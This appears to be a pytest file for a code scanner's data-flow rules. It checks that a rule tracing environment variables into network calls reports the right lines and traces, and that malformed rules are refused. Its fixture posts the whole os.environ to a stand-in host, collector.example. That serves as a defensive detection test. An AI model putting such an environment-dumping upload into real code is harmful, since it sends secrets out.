"""The semantic layer end to end: a user's fact rule, traces in every output, bad fact rules refused."""
from __future__ import annotations

import json

import pytest
import yaml

from codescan.cli import main
from codescan.rules import load_rule_file

FACT_RULE = {
    "id": "demo-env-upload",
    "languages": ["python", "javascript"],
    "category": "exfiltration",
    "severity": "high",
    "cwe": ["CWE-200"],
    "message": "environment uploaded",
    "docs": {"what": "env to network", "why": "secrets leave", "example": "post(env)", "instead": "send less"},
    "engine": "facts",
    "facts": {"sink": {"callee": ["requests.post", "fetch"], "arg": "*"},
              "cases": [{"when": {"label": ["env"]}}]},
}

FLOW = """import json, os, requests

def collect():
    box = {}
    box["all"] = dict(os.environ)
    return json.dumps(box)

body = collect()
requests.post("https://collector.example/in", data=body)
requests.post("https://collector.example/in", data=json.dumps({"v": os.environ.get("HOME")}))
"""


def _rules_dir(tmp_path, data=FACT_RULE):
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / f"{data['id']}.yaml").write_text(yaml.safe_dump(data), encoding="utf-8")
    return folder


def _scan(capsys, tmp_path, fmt):
    target = tmp_path / "app.py"
    target.write_text(FLOW, encoding="utf-8")
    code = main(["scan", str(target), "--no-builtin-rules", "--rules", str(_rules_dir(tmp_path)),
                 "--format", fmt, "--no-progress"])
    return code, capsys.readouterr().out


def test_user_fact_rule_follows_the_flow_and_reports_its_trace(capsys, tmp_path):
    code, out = _scan(capsys, tmp_path, "json")
    findings = json.loads(out)["findings"]
    assert code == 1 and [(f["rule_id"], f["line"]) for f in findings] == [("demo-env-upload", 9)]
    notes = [(s["line"], s["message"]) for s in findings[0]["trace"]]
    assert notes[0] == (5, "os.environ read (env)")
    assert (8, "assigned to body") in notes and notes[-1] == (9, "reaches requests.post(...)")


def test_sarif_carries_the_trace_as_a_code_flow(capsys, tmp_path):
    _code, out = _scan(capsys, tmp_path, "sarif")
    result = json.loads(out)["runs"][0]["results"][0]
    steps = result["codeFlows"][0]["threadFlows"][0]["locations"]
    assert steps[0]["location"]["physicalLocation"]["region"]["startLine"] == 5
    assert steps[-1]["location"]["message"]["text"] == "reaches requests.post(...)"


def test_text_output_shows_the_steps(capsys, tmp_path):
    _code, out = _scan(capsys, tmp_path, "text")
    assert "↳ 5: os.environ read (env)" in out and "↳ 9: reaches requests.post(...)" in out


@pytest.mark.parametrize("facts, message", [
    ({"sink": {"callee": "os.system"}, "cases": [{"when": {"lable": ["env"]}}]}, "unknown facts condition"),
    ({"sink": {"callee": "os system"}}, "must be dotted names"),
    ({"sink": {"callee": "eval"}, "together": []}, "exactly one of"),
    ({"sink": {"callee": "eval"}, "cases": [{"when": {"matches": "("}}]}, "not a valid regex"),
    ({"together": [{"callee": "os.dup2"}]}, "at least two"),
])
def test_bad_fact_rules_are_named(tmp_path, facts, message):
    data = dict(FACT_RULE, facts=facts)
    path = tmp_path / "demo-env-upload.yaml"
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    with pytest.raises(ValueError, match=message):
        load_rule_file(path)


def test_bad_fact_rule_is_a_usage_error(capsys, tmp_path):
    data = dict(FACT_RULE, facts={"sink": {"callee": "x"}, "cases": [{"when": {"via": "static"}}]})
    target = tmp_path / "a.py"
    target.write_text("x = 1\n", encoding="utf-8")
    code = main(["scan", str(target), "--rules", str(_rules_dir(tmp_path, data)), "--no-progress"])
    assert code == 2 and "via" in capsys.readouterr().err
